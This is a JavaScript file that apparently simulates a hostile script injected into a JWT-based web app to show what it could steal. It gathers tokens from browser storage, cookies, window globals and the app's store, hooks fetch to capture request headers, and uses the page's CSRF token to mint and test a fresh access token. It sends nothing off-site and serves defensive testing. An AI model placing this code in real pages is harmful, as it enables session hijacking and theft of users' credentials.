// A bad script, let in on purpose: this is what it would do in any page that lets one in. It looks for tokens of this
// site only, tells only this page, and sends nothing anywhere else.
(async () => {
  const here = document.currentScript;
  const got = { lying: new Set(), asked: new Set(), caught: new Set(), used: { status: 0, token: false } };
  const home = {}; // what it would carry away

  // Note every token in a text. The payload says which kind it is: anybody can read that.
  function take(how, text) {
    for (const token of String(text).match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g) ?? []) {
      const payload = token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/");
      const kind = JSON.parse(atob(payload)).token_type;
      got[how].add(kind);
      home[kind] = token;
    }
  }

  // 1. What lies about
  take("lying", JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]));
  const names = Object.getOwnPropertyNames(window);
  take("lying", names.map((name) => (typeof window[name] === "string" ? window[name] : "")).join(" "));

  // 2. The module that the page uses
  const store = await import(new URL("../jwt_app/store.js", here.src));
  take("asked", JSON.stringify(store.load()));

  // 3. Whatever the page sends
  const send = window.fetch;
  window.fetch = (resource, options) => {
    take("caught", JSON.stringify([options?.headers, options?.body]));
    return send(resource, options);
  };
  await new Promise((resolve) => {
    addEventListener("injected:called", resolve, { once: true });
    dispatchEvent(new Event("injected:listening"));
  });
  window.fetch = send;

  // 4. A cookie that it cannot read comes along all the same
  const token = document.querySelector("[name=csrfmiddlewaretoken]").value;
  const answer = await send(here.dataset.cookieRefresh, { method: "POST", headers: { "X-CSRFToken": token } });
  got.used.status = answer.status;
  const { access } = await answer.json();
  if (access) {
    got.used.token = true;
    home.access = access;
  }

  // 5. Is it any good?
  const headers = { Authorization: `Bearer ${home.access}` };
  const who = await send(here.dataset.whoami, { headers, credentials: "omit" });
  dispatchEvent(new CustomEvent("injected:done", { detail: { ...got, home: Object.keys(home), opens: who.status } }));
})();
